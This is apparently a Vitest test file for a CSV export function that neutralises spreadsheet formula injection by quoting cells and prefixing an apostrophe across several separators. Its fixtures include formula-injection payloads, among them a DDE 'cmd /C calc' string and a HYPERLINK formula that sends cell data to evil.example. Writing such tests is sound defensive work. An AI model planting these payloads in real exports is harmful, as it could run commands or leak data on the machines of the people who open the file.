import { describe, expect, it } from 'vitest';
import { toCsv } from '../dashboard/csv.js';
import { csvCell } from './render-csv.js';

describe('csvCell', () => {
  it.each([
    ['plain', '"plain"'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\r', '"cr\r"'],
    ['=SUM(A1:A9)', `"'=SUM(A1:A9)"`],
    ['+1 555', `"'+1 555"`],
    ['-2+3', `"'-2+3"`],
    ['@cmd', `"'@cmd"`],
    ['\tindent', `"'\tindent"`],
    ['=HYPERLINK("http://x", "y")', `"'=HYPERLINK(""http://x"", ""y"")"`],
    ['a=b', '"a=b"'],
    ['', '""'],
    ["Refund;=cmd|'/C calc'!A0;", `"Refund;'=cmd|'/C calc'!A0;"`],
    ['a\t+1', `"a\t'+1"`],
    ['a|@x', `"a|'@x"`],
    ['a; =1', `"a; '=1"`],
    ['a;"=1"', `"a;""'=1"""`],
    ['a\t\t=1', `"a\t'\t'=1"`],
    ['line\n=1', `"line\n'=1"`],
    // A separator at the field's start is a cell start too: the TAB gets its quote, and so does the formula after it.
    ['\t=cmd|calc', `"'\t'=cmd|calc"`],
    ['\t=HYPERLINK("http://evil.example/?"&A1,"SLA breached")', `"'\t'=HYPERLINK(""http://evil.example/?""&A1,""SLA breached"")"`],
    ['\r=cmd', `"'\r'=cmd"`],
    ['\n=cmd', `"'\n'=cmd"`],
    ['\t\t=1', `"'\t'\t'=1"`],
    ['|=1', `"|'=1"`],
    [';-1', `";'-1"`],
    ['a|\t=1', `"a|'\t'=1"`],
    // Blanks a spreadsheet may trim (no-break space, line separator) do not hide a formula.
    ['a;\u00a0=1', `"a;\u00a0'=1"`],
    ['\u2028@x', `"\u2028'@x"`],
    // A CRLF is one line break; a blank line inside a text starts with a line break, which is guarded.
    ['two\r\nlines', '"two\r\nlines"'],
    ['a\r=1', `"a\r'=1"`],
    ['para\n\nnext', `"para\n'\nnext"`],
  ])('%j → %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('writes numbers as numbers (a negative count is not a formula) and nothing for null', () => {
    expect([csvCell(75.5), csvCell(-3), csvCell(0), csvCell(null), csvCell(undefined), csvCell(Number.NaN)]).toEqual(['75.5', '-3', '0', '', '', '']);
  });
});

/**
 * What a spreadsheet makes of a CSV file opened with `separator`: RFC 4180 quoting, lenient
 * like Excel and Python's csv (text after a closing quote is kept up to the separator).
 */
function parse(csv: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  let atStart = true;
  for (let i = 0; i < csv.length; i++) {
    const ch = csv[i]!;
    if (quoted) {
      if (ch === '"' && csv[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && atStart) {
      quoted = true;
      atStart = false;
    } else if (ch === separator) {
      row.push(cell);
      cell = '';
      atStart = true;
    } else if (ch === '\r' && csv[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      (row = []), (cell = ''), (atStart = true), i++;
    } else {
      cell += ch;
      atStart = false;
    }
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

const HOSTILE = [
  "Refund;=cmd|'/C calc'!A0;",
  "Refund\t=cmd|'/C calc'!A0",
  "Refund|=cmd|'/C calc'!A0",
  'Refund, =1+1',
  'x;"=HYPERLINK(""http://evil"")"',
  'Totals;-2+3;+4;@SUM(A1)',
  'tab\t\t=1',
  '=1;=2',
  '\t=HYPERLINK("http://evil.example/?"&A1,"SLA breached")',
  '\r=cmd|calc',
  '|@SUM(A1)',
  ';\u00a0+1',
];

describe('the CSV formula guard, whatever separator the spreadsheet picks', () => {
  const csv = toCsv(['case', 'subject', 'minutes', 'customer'], HOSTILE.map((text, i) => [`C-${1000 + i}`, text, -5, text]));

  it.each([',', ';', '\t', '|'])('no cell starts a formula when the file is read with %j as separator', (separator) => {
    const cells = parse(csv, separator).flat();
    expect(cells.length).toBeGreaterThan(HOSTILE.length);
    // A cell a spreadsheet runs as a formula: = + - @ first, past any blanks and quotes. (-5 is our number column.)
    const formulas = cells.filter((cell, i) => i >= 4 && cell !== '-5' && /^[\s"]*[=+\-@]/.test(cell));
    expect(formulas).toEqual([]);
  });

  it('read with the comma, every field is one cell holding the text (with the guard quote) and numbers stay numbers', () => {
    const rows = parse(csv, ',');
    expect(rows).toHaveLength(HOSTILE.length + 1);
    expect(rows[1]).toEqual(['C-1000', "Refund;'=cmd|'/C calc'!A0;", '-5', "Refund;'=cmd|'/C calc'!A0;"]);
    expect(rows.slice(1).map((r) => r[1]!.replaceAll("'", ''))).toEqual(HOSTILE.map((t) => t.replaceAll("'", '')));
  });
});
